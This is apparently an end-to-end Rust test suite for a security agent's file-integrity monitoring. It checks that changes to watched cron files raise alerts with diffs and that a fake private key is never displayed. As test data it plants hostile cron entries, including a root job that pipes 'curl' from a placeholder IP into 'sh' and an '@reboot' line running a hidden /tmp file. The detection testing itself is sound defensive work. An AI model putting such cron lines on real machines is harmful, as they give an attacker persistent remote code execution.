//! Keep an eye on the files that the team's pack names: what changes is told, also what changed while no agent ran.

use std::{fs, path::PathBuf};

use serde_json::Value;

use crate::harness::{Site, Up, is_at, sha256};

const BEFORE: &str = "17 * * * * root cd / && run-parts /etc/cron.hourly\n";
/// What stands in a private key here, and must not stand anywhere else.
const SECRET: &str = "khien-e2e-not-to-be-shown";

/// A site whose pack names a folder, with an agent that looks every second.
struct House {
    site: Site,
    kept: PathBuf,
}

impl House {
    fn new() -> Self {
        let site = Site::new();
        site.integrity_every.set("1").unwrap();
        let kept = site.web.with_file_name("kept");
        fs::create_dir_all(kept.join("cron.d")).unwrap();
        fs::write(kept.join("crontab"), BEFORE).unwrap();
        fs::write(kept.join("tls.key"), SECRET).unwrap();
        Self { site, kept }
    }

    fn up(&self) -> Up<'_> {
        self.site.up(&["--agency", "Sở Y tế", "--watch", self.site.web.to_str().unwrap()])
    }

    /// Signs and sends the pack, and waits until the agent has taken down how everything is.
    fn push_policy(&self) {
        let pack = self.site.web.with_file_name("pack");
        fs::create_dir(&pack).unwrap();
        fs::write(pack.join("pack.toml"), "version = 4000000\n").unwrap();
        let policy = format!(
            "[[integrity]]\nname = \"cron\"\nseverity = \"high\"\nseverities = {{ rights = \"critical\" }}\n\
             technique = \"T1053.003\"\ntext = true\npaths = [\"{}/\"]\n",
            self.kept.display()
        );
        fs::write(pack.join("policy.toml"), policy).unwrap();
        let (code, _, err) = self.site.cli(&["rules", "push", pack.to_str().unwrap()]);
        assert_eq!(code, 0, "{err}");
        self.until_kept();
    }

    fn until_kept(&self) {
        // Two folders and two files.
        let kept = |a: &Value| {
            let state = &a[0]["integrity"];
            state["files"] == 4 && state["groups"] == serde_json::json!(["cron"])
        };
        self.site.until(&["agent", "list"], "the baseline", kept);
    }
}

#[test]
fn a_changed_file_is_an_alert_with_its_lines_and_a_secret_is_never_shown() {
    let house = House::new();
    let mut up = house.up();
    house.push_policy();
    let (path, key) = (house.kept.join("crontab"), house.kept.join("tls.key"));
    let after = format!("{BEFORE}* * * * * root curl -s http://192.0.2.1/x | sh\n");

    fs::write(&path, &after).unwrap();
    fs::write(&key, format!("{SECRET}, and another")).unwrap();

    let alert = up.alert("the changed file", |a| is_at(a, &path));
    assert_eq!(alert["rule"], "khien.integrity.cron");
    assert_eq!((&alert["severity"], &alert["technique"]), (&"high".into(), &"T1053.003".into()), "{alert}");
    assert_eq!(alert["diff"], "+* * * * * root curl -s http://192.0.2.1/x | sh");
    assert_eq!(alert["sha256"], sha256(&after));
    assert!(alert["what"]["en"].as_str().unwrap().contains(&sha256(BEFORE)), "{alert}");
    assert!(alert["title"]["vi"].as_str().unwrap().contains("cron"), "{alert}");
    let of_key = up.alert("the changed key", |a| is_at(a, &key));
    assert_eq!(of_key["diff"], Value::Null);
    let (_, shown, _) = house.site.cli(&["alert", "show", alert["id"].as_str().unwrap()]);
    assert!(shown.contains("Changed:") && shown.contains("+* * * * * root curl"), "{shown}");
    for args in [&["alert", "list"][..], &["alert", "show", of_key["id"].as_str().unwrap()]] {
        let said = house.site.json(args).to_string();
        assert!(!said.contains(SECRET), "{said}");
    }
}

#[test]
fn a_change_made_while_no_agent_ran_is_an_alert_at_the_start() {
    let house = House::new();
    let first = house.up();
    house.push_policy();
    assert_eq!(first.stop(), 0);
    let path = house.kept.join("cron.d/new");
    fs::write(&path, "@reboot root /tmp/.x\n").unwrap();

    let mut up = house.up();

    let alert = up.alert("what came meanwhile", |a| is_at(a, &path));
    assert!(alert["what"]["en"].as_str().unwrap().contains("while no agent ran to watch"), "{alert}");
    assert_eq!(alert["diff"], "+@reboot root /tmp/.x");
}

#[test]
fn many_changes_at_once_are_one_alert_with_their_number_and_a_bad_one_is_told_by_itself() {
    let house = House::new();
    let mut up = house.up();
    house.push_policy();
    let (folder, crontab) = (house.kept.join("cron.d"), house.kept.join("crontab"));

    fs::write(&crontab, format!("{BEFORE}@reboot root /tmp/.x\n")).unwrap();
    for n in 0..500 {
        fs::write(folder.join(format!("unit-{n}")), "x").unwrap();
    }

    let alert = up.alert("the storm", |a| is_at(a, &folder));
    assert!(alert["what"]["en"].as_str().unwrap().starts_with("500 files changed"), "{alert}");
    assert_eq!(up.alert("the bad one", |a| is_at(a, &crontab))["diff"], "+@reboot root /tmp/.x");
    let alerts = house.site.json(&["alert", "list"]);
    let of_group = alerts.as_array().unwrap().iter().filter(|a| a["rule"] == "khien.integrity.cron");
    assert_eq!(of_group.count(), 2, "{alerts}");
}
